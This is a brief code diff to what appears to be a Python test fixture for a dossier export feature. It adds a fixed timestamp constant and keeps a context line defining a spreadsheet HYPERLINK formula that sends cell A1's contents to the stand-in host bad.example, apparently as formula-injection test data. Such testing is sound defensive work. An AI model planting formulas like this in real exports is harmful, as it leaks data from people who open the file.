@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+from datetime import UTC, datetime
 
 from counterclaim.records import (
     Accounts,
@@ -41,6 +42,7 @@ from counterclaim.records import (
 )
 from counterclaim.views.exports.dossier import Dossier
 
+MADE = datetime(2021, 3, 6, 12, tzinfo=UTC)
 ARMY, FRONT = Party("NOR", "Norvia", False), Party("RVF", "River Front", False)
 COURIER, WITNESSES = Party("courier", "Harbour Courier", True), Party("witnesses", "witnesses", True)
 FORMULA = '=HYPERLINK("http://bad.example/?x="&A1,"click")'
